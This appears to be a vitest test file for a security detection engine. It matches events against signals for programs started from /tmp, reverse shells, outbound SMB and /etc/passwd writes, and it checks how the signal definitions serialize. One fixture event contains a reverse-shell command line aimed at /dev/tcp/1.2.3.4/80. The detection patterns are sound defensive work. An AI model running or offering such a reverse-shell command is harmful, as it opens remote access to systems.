// SignalSet.match and the stored form of signal definitions (SPEC 2.6 RecordSignalDefinitions).
import { describe, expect, it } from 'vitest';
import { compileSignals, serializeSignalDefinitions } from './signal-set';
import { parseSignals } from './parse-signals';

const signals = parseSignals({
  version: 1,
  signals: [
    { id: 'shell-from-tmp', name: 'Program started from /tmp', severity: 'high', family: 'process', tags: ['T1059'], when: { field: 'exe', beginsWith: ['/tmp/', '/dev/shm/'] } },
    { id: 'reverse-shell', name: 'Reverse shell command line', description: 'bash to /dev/tcp', severity: 'critical', family: 'process', when: { field: 'argv', contains: '/dev/tcp/' } },
    { id: 'outbound-smb', name: 'Outbound SMB', severity: 'medium', family: ['network'], when: { all: [{ field: 'remote.port', equals: 445 }, { not: { field: 'remote.address', cidr: '10.0.0.0/8' } }] } },
    { id: 'passwd-write', name: 'passwd written', severity: 'low', family: ['file', 'process'], when: { field: 'path', equals: '/etc/passwd' } },
  ],
});

describe.each([
  ['compiled', false],
  ['linear (DisableSignalsTrie)', true],
])('SignalSet.match, %s', (_mode, disableSignalsTrie) => {
  const set = compileSignals(signals, { disableSignalsTrie });

  it('returns every matching signal in definition order', () => {
    const matches = set.match({ family: 'process', exe: '/tmp/x', argv: ['bash', '-c', 'exec 5<>/dev/tcp/1.2.3.4/80'], path: '/etc/passwd' });
    expect(matches.map((m) => m.signalId)).toEqual(['shell-from-tmp', 'reverse-shell', 'passwd-write']);
    expect(matches[0]).toEqual({ signalId: 'shell-from-tmp', name: 'Program started from /tmp', severity: 'high', tags: ['T1059'] });
  });

  it('matches signals by family only', () => {
    expect(set.match({ family: 'file', exe: '/tmp/x', path: '/etc/passwd' }).map((m) => m.signalId)).toEqual(['passwd-write']);
    expect(set.match({ family: 'dns', path: '/etc/passwd' })).toEqual([]);
  });

  it('evaluates not inside a signal', () => {
    expect(set.match({ family: 'network', remote: { address: '203.0.113.9', port: 445 } }).map((m) => m.signalId)).toEqual(['outbound-smb']);
    expect(set.match({ family: 'network', remote: { address: '10.1.1.1', port: 445 } })).toEqual([]);
  });

  it('returns one shared empty array when nothing matches', () => {
    const a = set.match({ family: 'process', exe: '/bin/ls' });
    expect(a).toEqual([]);
    expect(set.match({ family: 'process', exe: '/bin/cat' })).toBe(a);
  });
});

describe('serializeSignalDefinitions', () => {
  it('gives one row per signal with its normalised JSON', () => {
    const rows = serializeSignalDefinitions(signals);
    expect(rows.map((r) => [r.id, r.name, r.severity, r.families])).toEqual([
      ['shell-from-tmp', 'Program started from /tmp', 'high', ['process']],
      ['reverse-shell', 'Reverse shell command line', 'critical', ['process']],
      ['outbound-smb', 'Outbound SMB', 'medium', ['network']],
      ['passwd-write', 'passwd written', 'low', ['file', 'process']],
    ]);
    expect(JSON.parse(rows[2].json)).toEqual({
      id: 'outbound-smb',
      name: 'Outbound SMB',
      severity: 'medium',
      family: 'network',
      tags: [],
      when: { all: [{ field: 'remote.port', equals: 445 }, { not: { field: 'remote.address', cidr: '10.0.0.0/8' } }] },
    });
  });

  it('re-parses to the same definitions', () => {
    const rows = serializeSignalDefinitions(signals);
    expect(parseSignals({ signals: rows.map((r) => JSON.parse(r.json) as unknown) })).toEqual(signals);
  });
});
